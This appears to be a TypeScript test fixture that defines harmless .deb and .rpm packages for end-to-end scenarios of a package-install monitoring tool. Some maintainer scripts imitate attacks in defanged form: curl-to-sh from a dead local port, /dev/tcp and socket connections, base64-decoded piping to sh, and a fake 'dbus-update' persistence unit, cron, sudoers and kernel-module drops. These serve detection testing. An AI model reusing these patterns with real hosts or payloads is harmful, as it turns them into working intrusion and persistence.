// The harmless packages that the scenarios install, with their scripts.

import type { DebScripts } from '../e2e/packages.ts';

const quiet = '#!/bin/sh\nset -e\nexit 0\n';
const all = (text = quiet): DebScripts => ({ preinst: text, postinst: text, prerm: text, postrm: text });
const asks = (name: string): DebScripts => ({
  config: `#!/bin/sh\nset -e\n. /usr/share/debconf/confmodule\ndb_input low ${name}/q || true\ndb_go || true\n`,
  postinst: `#!/bin/sh\nset -e\n. /usr/share/debconf/confmodule\ndb_get ${name}/q\nexit 0\n`,
  templates: `Template: ${name}/q\nType: boolean\nDefault: true\nDescription: yes?\n`,
});

/** The scripts that debhelper writes for a package with a service. No systemd runs on the scenario's host. */
const service = (name: string): DebScripts => ({
  postinst: `#!/bin/sh
set -e
if [ "$1" = configure ]; then
  deb-systemd-helper unmask ${name}.service >/dev/null || true
  if deb-systemd-helper --quiet was-enabled ${name}.service; then deb-systemd-helper enable ${name}.service >/dev/null || true; fi
  deb-systemd-helper update-state ${name}.service >/dev/null || true
  if [ -d /run/systemd/system ]; then deb-systemd-invoke restart ${name}.service >/dev/null || true; fi
fi
`,
  postrm: `#!/bin/sh
set -e
if [ "$1" = purge ]; then deb-systemd-helper purge ${name}.service >/dev/null || true; fi
`,
});

/** A script that starts the package's daemon. */
const daemon = `#!/bin/sh
set -e
start-stop-daemon --start --background --oknodo --pidfile /run/none.pid --exec /usr/bin/sleep -- 0.2
exit 0
`;

/** A script of the usual length. */
const copied = `#!/bin/sh
set -e
case "$1" in
  configure|reconfigure) sleep 0.3 ;;
  *) : "called with unknown argument '$1'" ;;
esac
exit 0
`;

const helpers = `#!/bin/sh
set -e
if [ "$1" = configure ] && dpkg --compare-versions "$2" lt 2; then dpkg-maintscript-helper rm_conffile /etc/none 2 -- "$@"; fi
dpkg-trigger --no-await --by-package=new-helpers none || true
dpkg-query -W new-helpers >/dev/null
exit 0
`;

/** Leaves a unit, and a program that outlives the installation. */
const backdoor = `#!/bin/sh
set -e
cat >/etc/systemd/system/dbus-update.service <<'UNIT'
[Service]
ExecStart=/bin/true
[Install]
WantedBy=multi-user.target
UNIT
( setsid nohup sleep 1 >/dev/null 2>&1 & )
exit 0
`;

const sh = (...lines: string[]): string => `#!/bin/sh\nset -e\n${lines.join('\n')}\n`;

/** Uses the tools that put programs, files and modes in the place of others, as a package may. */
const overrides = sh(
  'echo kept >/opt/kept',
  'update-alternatives --install /opt/new-link new-pager /bin/cat 10 >/dev/null',
  'dpkg-divert --package new-overrides --rename --divert /opt/kept.real --add /opt/kept >/dev/null',
  'dpkg-statoverride --update --add root root 0750 /opt/kept.real',
);

/** Appends a line to a file at each run: the proof that it ran. */
const marks = (file: string, more = ''): string =>
  `#!/bin/sh\nset -e\n: each run appends a line to ${file}, and no other script does\necho ran >>/opt/${file}\n${more}`;

interface Package {
  name: string;
  version: string;
  scripts: DebScripts;
  /** The contents of configuration files, by path. */
  conffiles?: Readonly<Record<string, string>>;
}

/** A package with a service brings its unit: as a configuration file, since the scenario's host has a private /etc only. */
const withUnit = (packages: [string, Package][]): [string, Package][] =>
  packages.map(([file, each]) => [
    file,
    {
      ...each,
      conffiles: {
        [`/etc/systemd/system/${each.name}.service`]:
          '[Service]\nExecStart=/bin/true\n[Install]\nWantedBy=multi-user.target\n',
      },
    },
  ]);

const versions = (name: string, ...scripts: DebScripts[]): [string, Package][] =>
  scripts.map((each, index) => [`${name}_${index + 1}`, { name, version: `${index + 1}`, scripts: each }]);

/** The .deb packages by file name without `.deb`. */
export const debs: ReadonlyMap<string, Package> = new Map([
  // Learned in the first week.
  ...versions('editor', all(), all('#!/bin/sh\nset -e\n:\n'), { postinst: backdoor }),
  ...versions('viewer', all(), all('#!/bin/sh\nset -e\n: two\n')),
  ...versions('vendor', all(), all('#!/bin/sh\nset -e\n: two\n'), all('#!/bin/sh\nset -e\n: three\n'), {
    postinst: sh('echo dHJ1ZQo= | base64 -d | sh'),
  }),
  ...versions('library', all(), all('#!/bin/sh\nset -e\n: two\n'), all('#!/bin/sh\nset -e\n: three\n'), {
    postinst: sh("echo '0 4 * * * root true' >/etc/cron.d/library"),
  }),
  ...versions('asking', asks('asking'), asks('asking')),
  ...withUnit(versions('service', service('service'), service('service'))),
  ...versions('fleet', all()),
  ...versions('appended', all()),
  ...versions('offline', all()),
  // These scripts last long enough to be read and have unique contents, so that a copy of one is recognised.
  ...versions('victim', all('#!/bin/sh\nset -e\n: victim\nsleep 0.3\n')),
  ...versions('copied', all(copied)),
  ...versions('late', all(), all('#!/bin/sh\nset -e\n: late\n')),
  ...versions('same-version', all()),
  // Each script has a line of its own, so that it is recognised by its lines.
  ...versions('reads', {
    preinst: marks('sourced.ran'),
    postinst: marks('redirected.ran'),
    prerm: marks('piped.ran'),
    postrm: marks('as-text.ran'),
  }),
  ...versions('replaced', all()),
  ...versions('restored', all()),
  ...versions('fixable', all()),
  ...versions('fixed', all(), all()),
  ...versions('marked', { postinst: marks('marked.ran') }),
  ...versions('short', { postinst: marks('short.ran') }),
  // New in the second week.
  ...versions('new-tool', all()),
  ...versions('new-daemon', { postinst: daemon }),
  ...withUnit(versions('new-service', service('new-service'))),
  ...versions('new-helpers', { postinst: helpers }, { postinst: helpers }),
  ...versions('new-asking', asks('new-asking')),
  ...versions('new-fleet', all()),
  ...versions('from-repository', all()),
  ...versions('cached', all()),
  ...['fleet-apt', 'python', 'options', 'settings', 'forced', 'namespace', 'environment'].flatMap((name) =>
    versions(`new-${name}`, all()),
  ),
  ...versions('new-overrides', { postinst: overrides }),
  ...versions('new-text', { postinst: sh("echo 'for more: wget http://127.0.0.1:9/more.txt, and read it'") }),
  [
    'new-ships_1',
    {
      name: 'new-ships',
      version: '1',
      scripts: all(),
      conffiles: {
        '/etc/systemd/system/new-ships.service': '[Service]\nExecStart=/bin/true\n',
        '/etc/cron.d/new-ships': '0 4 * * * root true\n',
        '/etc/sudoers.d/new-ships': '# no rule\n',
      },
    },
  ],
  // Installed by attackers.
  ...[
    ...[
      'by-web-server',
      'by-implant',
      'by-python',
      'by-service-apt',
      'by-unpack',
      'by-linker',
      'by-renamed',
      'by-renamed-bare',
    ],
    ...['by-hook', 'by-session', 'inner', 'by-tar', 'by-at', 'by-anacron', 'by-inline', 'by-perl', 'by-own-database'],
    ...['by-cover', 'by-namespace', 'by-cache', 'unauthenticated', 'insecure', 'no-debsig'],
  ].flatMap((name) => versions(`evil-${name}`, name.endsWith('-bare') ? {} : { postinst: quiet })),
  ...versions('evil-marked', { postinst: marks('evil.ran', 'sleep 0.2\n') }),
  ...versions('evil-detached', {
    postinst: '#!/bin/sh\n( setsid sh -c "sleep 0.5; dpkg -i $DEBS/evil-inner_1.deb; :" >/dev/null 2>&1 & )\nexit 0\n',
  }),
  ...versions('evil-module', { postinst: '#!/bin/sh\nset -e\ninsmod /opt/module.ko\nexit 0\n' }),
  ...versions('evil-in-bash', { postinst: '#!/bin/bash\nset -e\nexit 0\n' }),
  ...versions('evil-unit', {
    postinst: sh("printf '[Service]\\nExecStart=/bin/true\\n' >/etc/systemd/system/evil-unit.service"),
  }),
  ...versions('evil-job', { postinst: sh("echo '0 4 * * * root true' >/etc/cron.d/evil-job") }),
  ...versions('evil-sudo', { postinst: sh("echo '# no rule' >/etc/sudoers.d/evil-sudo") }),
  ...versions('evil-background', { postinst: sh('nohup sleep 0.5 >/dev/null 2>&1 &') }),
  // Nothing listens at this port.
  ...versions('evil-device', { postinst: '#!/bin/bash\n(exec 3<>/dev/tcp/127.0.0.1/9) 2>/dev/null || true\n' }),
  ...versions('evil-download', { postinst: sh('curl -fsS http://127.0.0.1:9/x 2>/dev/null | sh || true') }),
  ...versions('evil-connection', {
    postinst: sh(`python3 -c 'import socket; socket.create_connection(("127.0.0.1", 9), 1)' 2>/dev/null || true`),
  }),
  ['cached_1_other', { name: 'cached', version: '1', scripts: all(sh('/bin/true planted')) }],
  [
    'same-version_1_other',
    { name: 'same-version', version: '1', scripts: all('#!/bin/sh\nset -e\n/bin/true planted\n') },
  ],
]);

/** The %post of the .rpm packages, by file name without `.rpm`. */
export const rpms: ReadonlyMap<string, string> = new Map([
  ['rpm-one', ':'],
  ['rpm-two', ':'],
  ['rpm-three', 'sleep 0.05'],
  ['rpm-vendor', ':'],
  ['rpm-vendor-two', ':'],
  ['rpm-evil', ':'],
  ['rpm-marked', 'echo ran >>/opt/rpm-marked.ran; sleep 0.2'],
  ['rpm-detached', '( setsid /usr/bin/sleep 0.3 >/dev/null 2>&1 & )'],
]);

/** The debs in the scenarios' repository, by file name, at each of its states. */
export const repository: Readonly<Record<string, readonly string[]>> = {
  1: ['library_1', 'service_1'],
  2: ['library_2', 'service_2', 'from-repository_1'],
  3: ['library_3'],
  4: ['library_4'],
  5: ['cached_1'],
};
